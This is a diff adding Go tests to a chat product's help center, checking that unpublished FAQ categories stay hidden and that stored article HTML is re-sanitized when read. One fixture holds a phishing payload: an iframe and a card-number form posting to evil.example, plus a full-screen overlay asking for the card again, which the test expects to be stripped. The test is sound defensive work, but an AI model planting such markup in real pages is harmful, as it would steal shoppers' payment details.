@@ -1,9 +1,13 @@
 package httpapi_test
 
 import (
+	"database/sql"
+	"fmt"
 	"net/url"
 	"strings"
 	"testing"
+
+	"github.com/sodam-chat/sodam/internal/chat"
 )
 
 // TestHelpCenterRefusals: a person who follows a broken link or edits the
@@ -45,4 +49,80 @@ func TestHelpCenterRefusals(t *testing.T) {
 		}
 	}
 	pageIn("/help/nosuchshop?lang=en", "ko", 404, "There is no Help Center at this address")
+}
+
+// TestHelpCenterShowsOnlyPublishedCategories: a category whose articles
+// are all drafts (a launch not yet announced) is named by no public page
+// or answer — not its help center page, not the widget's FAQ home — and a
+// category's page shows its published articles whatever the page's
+// language; the sitemap lists a category in the languages its articles
+// are written in.
+func TestHelpCenterShowsOnlyPublishedCategories(t *testing.T) {
+	for _, kind := range stores {
+		t.Run(kind, func(t *testing.T) { helpCenterShowsOnlyPublishedCategories(t, newEnvOn(t, kind, nil)) })
+	}
+}
+
+func helpCenterShowsOnlyPublishedCategories(t *testing.T, e *env) {
+	seedFAQ(t, e)
+	m := e.login("manager")
+	var launch, overseas chat.FAQCategory
+	m.json("POST", e.shopPath()+"/faq/categories", `{"name":"겨울 신상품 출시 준비","name_en":"Winter launch"}`, 201, &launch)
+	m.json("POST", e.shopPath()+"/faq/articles", fmt.Sprintf(`{"category_id":%d,"title":"출시 일정 안내","body_html":"<p>12월 20일 공개 예정</p>","published":false}`, launch.ID), 201, nil)
+	m.json("POST", e.shopPath()+"/faq/categories", `{"name":"해외 배송","name_en":"Overseas shipping"}`, 201, &overseas)
+	m.json("POST", e.shopPath()+"/faq/articles", fmt.Sprintf(`{"category_id":%d,"title":"Do you ship abroad?","body_html":"<p>Yes, to 30 countries.</p>","lang":"en","published":true}`, overseas.ID), 201, nil)
+	anon := e.anonymous()
+
+	for _, path := range []string{fmt.Sprintf("/help/shop/categories/%d", launch.ID), fmt.Sprintf("/help/shop/categories/%d?lang=en", launch.ID)} {
+		status, data := anon.do("GET", path, "")
+		if status != 404 || strings.Contains(string(data), "출시 준비") || strings.Contains(string(data), "Winter launch") {
+			t.Errorf("GET %s: %d, names the unpublished category: %v", path, status, strings.Contains(string(data), "출시"))
+		}
+	}
+	for _, lang := range []string{"ko", "en"} {
+		status, data := anon.do("GET", "/api/v1/widget/faq?site_id=shop&lang="+lang, "")
+		if status != 200 || strings.Contains(string(data), "출시 준비") || strings.Contains(string(data), "Winter launch") {
+			t.Errorf("widget FAQ home (%s) %d names the unpublished category: %s", lang, status, data)
+		}
+	}
+	// The overseas category has only an English article: its Korean page
+	// shows it, not an empty list.
+	for _, lang := range []string{"ko", "en"} {
+		status, data := anon.do("GET", fmt.Sprintf("/help/shop/categories/%d?lang=%s", overseas.ID, lang), "")
+		if status != 200 || !strings.Contains(string(data), "Do you ship abroad?") {
+			t.Errorf("overseas category in %s: %d, shows the article: %v", lang, status, strings.Contains(string(data), "Do you ship abroad?"))
+		}
+	}
+	_, sitemap := anon.do("GET", "/help/shop/sitemap.xml", "")
+	if !strings.Contains(string(sitemap), fmt.Sprintf("/help/shop/categories/%d?lang=en</loc>", overseas.ID)) ||
+		strings.Contains(string(sitemap), fmt.Sprintf("/help/shop/categories/%d?lang=ko</loc>", overseas.ID)) ||
+		strings.Contains(string(sitemap), fmt.Sprintf("/categories/%d?", launch.ID)) {
+		t.Errorf("sitemap %s", sitemap)
+	}
+}
+
+// TestWidgetArticleSanitizedWhenRead: a body stored before the policy
+// tightened (written here straight into the database) reaches the
+// widget's FAQ panel, which puts it in the page as HTML, as checked as it
+// reaches the help center: sanitized again when read.
+func TestWidgetArticleSanitizedWhenRead(t *testing.T) {
+	e := newEnv(t) // the body is written with SQLite's own client
+	refund, _ := seedFAQ(t, e)
+	db, err := sql.Open("sqlite", "file:"+e.dbPath+"?_pragma=busy_timeout(10000)")
+	must(t, err)
+	defer db.Close()
+	old := `<p>환불은 영업일 3일 안에 됩니다.</p><iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="card"></form><p style="position:fixed;inset:0">카드 번호를 다시 입력하세요</p>`
+	_, err = db.Exec(`UPDATE faq_articles SET body_html = ? WHERE id = ?`, old, refund.ID)
+	must(t, err)
+	var got struct {
+		BodyHTML string `json:"body_html"`
+	}
+	e.anonymous().json("GET", fmt.Sprintf("/api/v1/widget/faq/articles/%d?site_id=shop", refund.ID), "", 200, &got)
+	if got.BodyHTML != "<p>환불은 영업일 3일 안에 됩니다.</p><p>카드 번호를 다시 입력하세요</p>" {
+		t.Errorf("widget article body %q", got.BodyHTML)
+	}
+	_, page := e.anonymous().do("GET", fmt.Sprintf("/help/shop/articles/%d", refund.ID), "")
+	if strings.Contains(string(page), "iframe") || strings.Contains(string(page), "position:fixed") {
+		t.Errorf("help center page %s", page)
+	}
 }
